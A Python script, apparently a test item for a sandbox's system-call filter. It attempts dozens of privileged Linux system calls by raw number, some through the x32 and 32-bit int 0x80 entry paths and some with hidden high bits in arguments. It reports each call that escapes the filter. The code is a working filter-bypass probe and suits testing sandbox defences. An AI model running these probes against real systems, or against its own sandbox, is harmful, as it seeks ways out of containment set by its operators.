# attack: system calls by number, in the other two number ranges of the processor, and with bits that a filter may not look at
# limit: 15
# ends: done
import ctypes, errno, mmap, os, platform
libc = ctypes.CDLL(None, use_errno=True)
HIGH = 1 << 32
def call(number, *arguments):
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *words)
def apart(what, attempt):
    """In a process of its own: what is not allowed may end it."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if attempt() >= 0 else 1)
    if os.waitpid(pid, 0)[1] == 0:
        print("ESCAPED:", what)
room = ctypes.create_string_buffer(4096)
if platform.machine() == "x86_64":
    for name, number, arguments in (
        ("io_uring_setup", 425, (4, room)), ("memfd_create", 319, (room, 0)), ("memfd_secret", 447, (0,)),
        ("clone3", 435, (room, 88)), ("userfaultfd", 323, (1,)), ("bpf", 321, (0, room, 128)), ("perf_event_open", 298, (room, 0, -1, -1, 0)),
        ("add_key", 248, (b"user", b"x", b"y", 1, -3)), ("request_key", 249, (b"user", b"x", None, -3)), ("keyctl", 250, (0, -3, 1)),
        ("personality", 135, (0x0040000,)), ("ptrace me", 101, (0, 0, 0, 0)), ("process_vm_readv", 310, (os.getpid(), None, 0, None, 0, 0)),
        ("kcmp", 312, (os.getpid(), os.getpid(), 0, 0, 0)), ("pidfd_getfd", 438, (0, 0, 0)), ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, None)),
        ("umount", 166, (b"/proc", 2)), ("pivot_root", 155, (b"/tmp", b"/tmp")), ("chroot", 161, (b"/tmp",)), ("open_tree", 428, (-100, b"/", 1)),
        ("fsopen", 430, (b"tmpfs", 0)), ("mount_setattr", 442, (-100, b"/", 0, room, 32)), ("unshare nothing", 272, (0,)),
        ("unshare user", 272, (0x10000000,)), ("setns", 308, (0, 0)), ("name_to_handle_at", 303, (-100, b"/", room, room, 0)),
        ("open_by_handle_at", 304, (-100, room, 0)), ("fanotify_init", 300, (0, 0)), ("syslog", 103, (3, room, 4096)), ("shmget", 29, (0, 4096, 0o1600)),
        ("msgget", 68, (0, 0o1600)), ("semget", 64, (0, 1, 0o1600)), ("mq_open", 240, (b"queue", 0o102, 0o600, None)), ("iopl", 172, (3,)),
        ("modify_ldt", 154, (0, room, 16)), ("quotactl", 179, (0, None, 0, room)), ("reboot", 169, (0, 0, 0, None)), ("sethostname", 170, (b"x", 1)),
        ("init_module", 175, (room, 10, b"")), ("kexec_load", 246, (0, 0, None, 0)), ("settimeofday", 164, (room, None)), ("acct", 163, (None,)),
        ("clone user", 56, (0x10000000 | 17, 0, 0, 0, 0)), ("clone mount, high bits", 56, (HIGH | 0x20000 | 17, 0, 0, 0, 0)),
        ("vsock, high bits", 41, (HIGH | 40, 1, 0)), ("packet, high bits", 41, (HIGH | 17, 3, 0)), ("netlink audit", 41, (16, 3, 9)),
        ("netlink generic, high bits", 41, (16, 3, HIGH | 16)), ("netlink audit, high bits", 41, (HIGH | 16, 3, 9)),
        ("raw, high bits", 41, (2, HIGH | 3, 1)), ("pair of vsock", 53, (40, 1, 0, room)), ("family 60", 41, (60, 1, 0)),
        ("push into the terminal, high bits", 16, (0, HIGH | 0x5412, room)),
    ):
        apart(name, lambda: call(number, *arguments))
    apart("x32 getpid", lambda: call(0x40000000 | 39))
    apart("x32 io_uring", lambda: call(0x40000000 | 425, 4, room))
    def old_style():
        """getpid, and then unshare, through the 32-bit door."""
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3")
        return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    apart("32-bit getpid", old_style)
print("done")
